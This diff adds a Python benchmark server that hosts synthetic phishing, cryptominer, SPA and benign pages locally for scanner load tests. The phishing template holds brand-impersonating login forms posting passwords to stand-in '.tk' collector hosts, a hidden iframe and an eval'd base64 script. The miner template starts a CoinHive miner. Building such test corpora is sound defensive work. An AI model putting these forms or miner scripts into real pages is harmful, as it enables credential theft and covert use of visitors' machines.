@@ -0,0 +1,163 @@
+"""
+fake_sites.py
+
+Local stand-in target sites for load tests: a threaded HTTP server hosting a
+corpus of phishing-like, miner-like, SPA and benign pages.
+
+    /<kind>/<n>                   page n of a kind (phish, miner, spa, benign)
+    /<kind>/<n>?latency_ms=200    delay the response
+    /<kind>/<n>?size_kb=500       pad the page to roughly this size
+    /static/<name>.js             small script bodies the pages reference
+
+Every page is deterministic for its (kind, n, size) and carries fingerprintable
+headers/cookies (nginx + PHP, WordPress markup) so the full pipeline does
+real work. Responses have an ETag, so conditional revalidation is exercised too.
+
+Usage:
+    python bench/fake_sites.py --port 8765 --latency-ms 50
+"""
+
+import argparse
+import hashlib
+import os
+import random
+import sys
+import threading
+import time
+from functools import lru_cache
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import parse_qs, urlsplit
+
+BASE_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, BASE_DIR)
+
+from bench.generators import synthetic_html
+
+KINDS = ["phish", "miner", "spa", "benign"]
+PADDING = "<p>" + "lorem ipsum dolor sit amet consectetur " * 20 + "</p>\n"
+
+
+def _phish_page(rng, n):
+    brand = rng.choice(["paypal", "microsoft", "apple", "chase"])
+    return f"""<!doctype html><html><head><title>{brand} - verify your account</title>
+<meta http-equiv="refresh" content="30;url=http://10.0.{n % 255}.7/{brand}/login">
+</head><body>
+<h1>{brand.title()} account suspended</h1>
+<p>Your {brand} account has been limited. Verify your identity within 24 hours.</p>
+<form action="http://{brand}-secure-{1000 + n}.tk/collect.php" method="post">
+  <input name="email"><input type="password" name="password"><button>Verify</button>
+</form>
+<a href="http://192.168.{n % 255}.{n % 200}/{brand}/reset">Reset password</a>
+<iframe src="http://track-{n}.xyz/p" width="0" height="0" style="display:none"></iframe>
+<script>var p = atob("{'QUFB' * 30}"); eval(p); document.write('<img src="//t.tk/x">');</script>
+</body></html>"""
+
+
+def _miner_page(rng, n):
+    return f"""<!doctype html><html><head><title>Free movies {n}</title></head><body>
+<p>Streaming now. Please keep this tab open.</p>
+<script src="/static/coinhive.min.js"></script>
+<script>
+var miner = new CoinHive.Anonymous('site-key-{n}', {{throttle: 0.{rng.randrange(1, 9)}}});
+miner.start();
+WebAssembly.instantiate(fetch('/static/cryptonight.wasm'));
+</script>
+</body></html>"""
+
+
+def _spa_page(rng, n):
+    # almost no static markup: the real content would be built by the bundle
+    return f"""<!doctype html><html><head><title>App {n}</title>
+<script src="/static/vendor.js"></script><script src="/static/main.{n % 10}.js"></script>
+</head><body><div id="root"></div>
+<script>window.__INITIAL_STATE__ = {{"route": "/home", "user": null}};</script>
+</body></html>"""
+
+
+def _benign_page(rng, n):
+    return synthetic_html(scripts=8, inline_scripts=2, inline_size=800, anchors=40, forms=1, iframes=1,
+                          paragraphs=20, suspicious=False, seed=n)
+
+
+BUILDERS = {"phish": _phish_page, "miner": _miner_page, "spa": _spa_page, "benign": _benign_page}
+
+
+@lru_cache(maxsize=4096)
+def render_page(kind, n, size_kb=0):
+    """Body bytes for page n of `kind`, padded to about size_kb."""
+    rng = random.Random(f"{kind}:{n}")
+    html = BUILDERS[kind](rng, n)
+    missing = size_kb * 1024 - len(html)
+    if missing > 0:
+        html = html.replace("</body>", PADDING * (missing // len(PADDING) + 1) + "</body>", 1)
+    return html.encode("utf-8")
+
+
+class FakeSiteHandler(BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    default_latency_ms = 0
+    default_size_kb = 0
+
+    def do_GET(self):
+        parts = urlsplit(self.path)
+        query = {k: v[-1] for k, v in parse_qs(parts.query).items()}
+        latency_ms = float(query.get("latency_ms", self.default_latency_ms))
+        size_kb = int(query.get("size_kb", self.default_size_kb))
+        segments = [s for s in parts.path.split("/") if s]
+
+        if segments[:1] == ["static"]:
+            body, content_type = b"/* static asset */ var x = 1;", "application/javascript"
+        elif len(segments) == 2 and segments[0] in BUILDERS and segments[1].isdigit():
+            body, content_type = render_page(segments[0], int(segments[1]), size_kb), "text/html; charset=utf-8"
+        else:
+            self.send_error(404)
+            return
+
+        if latency_ms:
+            time.sleep(latency_ms / 1000)
+        etag = '"' + hashlib.md5(body).hexdigest() + '"'
+        if self.headers.get("If-None-Match") == etag:
+            self.send_response(304)
+            self.send_header("ETag", etag)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+            return
+        self.send_response(200)
+        self.send_header("Content-Type", content_type)
+        self.send_header("Content-Length", str(len(body)))
+        self.send_header("ETag", etag)
+        self.send_header("Server", "nginx/1.18.0")
+        self.send_header("X-Powered-By", "PHP/7.4.3")
+        self.send_header("Set-Cookie", "PHPSESSID=bench; Path=/")
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format, *args):
+        pass
+
+
+def start_server(port=0, latency_ms=0, size_kb=0):
+    """Serve the corpus on 127.0.0.1:port in a daemon thread; returns (server, base_url)."""
+    handler = type("Handler", (FakeSiteHandler,), {"default_latency_ms": latency_ms, "default_size_kb": size_kb})
+    server = ThreadingHTTPServer(("127.0.0.1", port), handler)
+    server.daemon_threads = True
+    threading.Thread(target=server.serve_forever, name="fake-sites", daemon=True).start()
+    return server, f"http://127.0.0.1:{server.server_address[1]}"
+
+
+def corpus_urls(base_url, pages_per_kind=25, kinds=KINDS):
+    return [f"{base_url}/{kind}/{n}" for n in range(pages_per_kind) for kind in kinds]
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Serve the fake target-site corpus.")
+    parser.add_argument("--port", type=int, default=8765)
+    parser.add_argument("--latency-ms", type=float, default=0)
+    parser.add_argument("--size-kb", type=int, default=0)
+    args = parser.parse_args()
+    server, base_url = start_server(args.port, args.latency_ms, args.size_kb)
+    print(f"[INFO] Serving fake sites on {base_url} (e.g. {base_url}/phish/1)")
+    try:
+        threading.Event().wait()
+    except KeyboardInterrupt:
+        server.shutdown()